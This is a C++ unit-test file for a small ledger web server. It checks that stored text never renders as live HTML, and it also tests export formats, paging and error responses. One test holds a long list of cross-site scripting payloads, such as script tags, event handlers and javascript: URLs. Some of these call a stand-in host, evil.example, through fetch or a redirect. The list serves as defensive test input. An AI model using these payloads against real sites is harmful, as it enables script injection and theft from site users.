// Pages of a small ledger: what they hold, that each form gives the same, and that no stored text
// becomes markup (docs/promises.md, 18).
#include <gtest/gtest.h>

#include <algorithm>

#include "hearsay/query.h"
#include "ledger/invented_report.h"
#include "ledger/scratch_folder.h"
#include "serve/site.h"
#include "show/rows_json.h"

namespace hearsay::serve {
namespace {

constexpr char kOrigin[] = "http://127.0.0.1:8090";

// What tries to be more than text, in every field that is stored.
const std::vector<std::string>& payloads() {
  static const std::vector<std::string> all = [] {
    const std::vector<std::string> bodies = {"alert(1)", "fetch('//evil.example')", "top.location='//evil.example'"};
    const std::vector<std::string> shapes = {
        "<script>@</script>", "<ScRiPt>@</sCrIpT>", "<script src=//evil.example/x.js></script>",
        "<img src=x onerror=@>", "<img src=x onerror=\"@\">", "<svg onload=@>", "<svg/onload=@>",
        "<body onload=@>", "<iframe src=\"javascript:@\"></iframe>", "<a href=\"javascript:@\">x</a>",
        "\"><script>@</script>", "'><script>@</script>", "</title><script>@</script>",
        "</textarea><script>@</script>", "</style><script>@</script>", "--><script>@</script>",
        "]]><script>@</script>", "\" onmouseover=\"@", "' onmouseover='@", "\" autofocus onfocus=\"@",
        "<details open ontoggle=@>", "<video><source onerror=@></video>", "<input onfocus=@ autofocus>",
        "<marquee onstart=@>", "<object data=\"data:text/html,<script>@</script>\">",
        "<embed src=\"javascript:@\">", "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
        "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>",
        "<form action=//evil.example><button>x</button></form>", "<math><mtext></p><script>@</script>",
        "<noscript><p title=\"</noscript><img src=x onerror=@>\">", "javascript:@", "JaVaScRiPt:@",
        "java\tscript:@", "data:text/html;base64,PHNjcmlwdD4=", "vbscript:@", "{{@}}", "${@}", "<%= @ %>",
        "&lt;script&gt;@&lt;/script&gt;", "&#60;script&#62;@", "\\u003cscript\\u003e@", "%3Cscript%3E@",
        "<scr<script>ipt>@</scr</script>ipt>", "<!--<script>@</script>", "<![CDATA[<script>@</script>]]>",
        "<p style=\"background:url(javascript:@)\">", "<x onclick=@>", "\xE2\x80\xAE<script>@</script>",
        "<a href='//evil.example' target=_blank>x</a>", "<template><script>@</script></template>",
        "<isindex action=javascript:@>", "<style>@import '//evil.example/x.css';</style>",
        "`<script>@</script>`", "<script\n>@</script\n>", "<img/src=`x`onerror=@>", "<a\nhref=javascript:@>x",
        "</script><script>@</script>", "<?xml version=\"1.0\"?><script>@</script>",
        "<textarea><script>@</script>", "<button formaction=javascript:@>x", "<keygen autofocus onfocus=@>",
        "<audio src onerror=@>", "<table background=\"javascript:@\">", "<frameset onload=@>", "+ADw-script+AD4-@"};
    std::vector<std::string> made;
    for (const std::string& shape : shapes) {
      for (const std::string& body : bodies) {
        std::string payload = shape;
        const size_t at = payload.find('@');
        if (at == std::string::npos && &body != &bodies.front()) continue;
        if (at != std::string::npos) payload.replace(at, 1, body);
        made.push_back(payload);
      }
    }
    return made;
  }();
  return all;
}

// A report with `words` in every field that a reader sees.
Report report_with(const std::string& words, size_t number) {
  InventedReport made;
  made.report.article.outlet = words;
  made.report.article.title = words;
  made.report.article.byline = words;
  made.report.article.url = words;
  made.report.article.published = "2026-05-04";
  made.report.article.language = "en";
  made.report.article.source_id = words + std::to_string(number);
  made.write("DOVRIN ");
  Statement& said = made.statement(Act::Deny);
  Hop hop;
  hop.holder = made.holder("The " + words + " ministry", true, HolderKind::Organisation);
  hop.holder->actor = "x-" + std::to_string(number);
  hop.act = Act::Deny;
  made.write(" ");
  hop.cue = made.write("denied");
  made.write(" ");
  said.content.spans = {made.write("that " + words + " was so")};
  said.chain.push_back(hop);
  Actor actor;
  actor.id = hop.holder->actor;
  actor.name = words;
  actor.kind = HolderKind::Organisation;
  actor.mentions = {hop.holder->span};
  made.report.actors.push_back(actor);
  made.write(".");
  return made.finish();
}

class Pages : public testing::Test {
 protected:
  void fill(const std::vector<Report>& reports) {
    Result<Ledger> writer = Ledger::open(folder_.file("l"), {.mode = LedgerMode::Create});
    ASSERT_TRUE(writer.ok()) << writer.status().message();
    for (const Report& report : reports) {
      const Result<Added> added = writer->add(report, invented_maker());
      ASSERT_TRUE(added.ok()) << added.status().message();
    }
    ASSERT_TRUE(writer->commit().ok());
    ASSERT_TRUE(writer->close().ok());
    Result<Ledger> reader = Ledger::open(folder_.file("l"));
    ASSERT_TRUE(reader.ok()) << reader.status().message();
    ledger_.emplace(std::move(reader).value());
  }
  Response get(const std::string& target) {
    Request request;
    EXPECT_TRUE(parse_target(target, request)) << target;
    return page(request, *ledger_, kOrigin);
  }

  ScratchFolder folder_;
  std::optional<Ledger> ledger_;
};

// Every tag of a page, as written: what stands between < and >.
std::vector<std::string> tags_of(const std::string& html) {
  std::vector<std::string> tags;
  for (size_t at = 0; (at = html.find('<', at)) != std::string::npos;) {
    const size_t end = std::min(html.find('>', at), html.size() - 1);
    tags.push_back(html.substr(at, end - at + 1));
    at = end;
  }
  return tags;
}

// A tag without the values of its attributes, which are between quotation marks.
std::string without_values(const std::string& tag) {
  std::string out;
  bool inside = false;
  for (const char c : tag) {
    if (c == '"') inside = !inside;
    if (!inside) out += c;
  }
  return out;
}

void expect_harmless(const std::string& html, const std::string& where) {
  for (const std::string& tag : tags_of(html)) {
    if (tag == "<script src=\"/app.js\" defer>" || tag == "</script>") continue;
    const std::string names = without_values(tag);
    EXPECT_EQ(names.find("script"), std::string::npos) << where << ": " << tag;
    EXPECT_EQ(names.find(" on"), std::string::npos) << where << ": " << tag;
    EXPECT_EQ(names.find_first_of("'`{"), std::string::npos) << where << ": " << tag;
    for (const char* name : {"<iframe", "<object", "<embed", "<base", "<style", "<svg", "<img", "<math",
                             "<template", "<marquee", "<video", "<audio"}) {
      EXPECT_FALSE(tag.starts_with(name)) << where << ": " << tag;
    }
    for (const char* attribute : {"href=\"", "src=\"", "action=\""}) {
      const size_t at = tag.find(attribute);
      if (at == std::string::npos) continue;
      const std::string value = tag.substr(at + std::string(attribute).size(), 8);
      EXPECT_TRUE(value.starts_with("/") || value.starts_with("#") || value.starts_with("http"))
          << where << ": " << tag;
    }
  }
}

TEST_F(Pages, NoStoredTextBecomesMarkup) {
  EXPECT_GE(payloads().size(), 180u);
  std::vector<Report> reports;
  for (size_t i = 0; i < payloads().size(); ++i) reports.push_back(report_with(payloads()[i], i));
  fill(reports);
  for (const char* path : {"/", "/search?limit=500", "/articles?limit=500", "/actors"}) {
    const Response response = get(path);
    EXPECT_EQ(response.status, 200) << path << response.body;
    EXPECT_GT(response.body.size(), 3000u) << path;
    expect_harmless(response.body, path);
  }
  for (size_t i = 0; i < reports.size(); ++i) {
    for (const std::string& path :
         {"/a/" + reports[i].article.id, "/s/" + reports[i].statements[0].id, "/actor/x-" + std::to_string(i)}) {
      const Response response = get(path);
      EXPECT_EQ(response.status, 200) << path;
      expect_harmless(response.body, payloads()[i]);
    }
    // In an address a control character is refused before any page sees it.
    std::string asked = payloads()[i];
    std::replace_if(asked.begin(), asked.end(), [](char c) { return c >= 0 && c < 0x20; }, ' ');
    expect_harmless(get("/search?about=" + percent_encoded(asked)).body, asked);
    expect_harmless(get("/" + percent_encoded("x" + asked)).body, asked);
  }
}

TEST_F(Pages, DataOfASearchHasTheRowsOfTheQuery) {
  fill({harbour_report()});
  std::string rows;
  const Result<StatementPage> found = find_statements(*ledger_, {.order = Order::Newest, .limit = 50});
  ASSERT_TRUE(found.ok());
  for (const FoundStatement& one : found->rows) rows += row_json(one) + "\n";
  ASSERT_FALSE(rows.empty());
  EXPECT_EQ(get("/search.jsonl").body, rows);
  EXPECT_TRUE(get("/search.json").body.starts_with("{\"rows\":[{\"statement\":"));
  EXPECT_TRUE(get("/search.csv").body.find("\n") != std::string::npos);
  EXPECT_NE(get("/search.rss").body.find("<rss version=\"2.0\">"), std::string::npos);
  EXPECT_NE(get("/search.feed.json").body.find("https://jsonfeed.org/version/1.1"), std::string::npos);
}

TEST_F(Pages, ACursorLeadsThroughAllOfIt) {
  std::vector<Report> reports;
  for (uint32_t i = 1; i <= 7; ++i) reports.push_back(numbered_report(i, 6));
  fill(reports);
  const std::string all = get("/search.jsonl?limit=500").body;
  std::string gathered;
  std::string target = "/search.jsonl?limit=2";
  for (int pages = 0; pages < 100 && !target.empty(); ++pages) {
    const Response response = get(target);
    ASSERT_EQ(response.status, 200) << target << response.body;
    gathered += response.body;
    target.clear();
    for (const auto& [name, value] : response.headers) {
      if (name == "Link") target = value.substr(1, value.find('>') - 1);
    }
  }
  EXPECT_EQ(gathered, all);
}

TEST_F(Pages, ErrorsHaveOneShape) {
  fill({harbour_report()});
  for (const auto& [target, status] : std::vector<std::pair<std::string, int>>{
           {"/nowhere.json", 404}, {"/a/a:0000.json", 404}, {"/search.json?limit=0", 400},
           {"/search.json?act=shout", 400}, {"/search.json?since=soon", 400}, {"/search.json?colour=red", 400},
           {"/articles.csv", 404}, {"/search.json?after=nonsense", 400}}) {
    const Response response = get(target);
    EXPECT_EQ(response.status, status) << target << response.body;
    EXPECT_TRUE(response.body.starts_with("{\"error\":{\"status\":" + std::to_string(status))) << response.body;
  }
  const Response html = get("/nowhere");
  EXPECT_EQ(html.status, 404);
  EXPECT_NE(html.body.find("<h1>404 Not Found</h1>"), std::string::npos);
}

TEST_F(Pages, TheReaderMarksSourceCueAndContent) {
  fill({harbour_report()});
  const std::string html = get("/a/" + harbour_report().article.id).body;
  EXPECT_NE(html.find("class=\"source of-"), std::string::npos);
  EXPECT_NE(html.find("class=\"cue of-"), std::string::npos);
  EXPECT_NE(html.find("class=\"content of-"), std::string::npos);
  EXPECT_NE(html.find("two port officials"), std::string::npos);
  EXPECT_NE(html.find("id=\"" + harbour_report().statements[0].id + "\""), std::string::npos);
}

TEST(Routes, EachStandsInTheDocumentation) {
  const std::string api = bytes_of(std::string(HEARSAY_SOURCE_DIR) + "/docs/api.md");
  for (const Route& route : routes()) {
    std::string row = "| `" + std::string(route.path) + "` | " + std::string(route.forms) + " | ";
    if (!route.parameters.empty()) row += "`" + std::string(route.parameters) + "` ";
    EXPECT_NE(api.find(row + "|"), std::string::npos) << row;
  }
}

TEST_F(Pages, AnEmptyLedgerSaysWhatToDo) {
  fill({});
  EXPECT_NE(get("/").body.find("hearsay add FILE"), std::string::npos);
}

}  // namespace
}  // namespace hearsay::serve
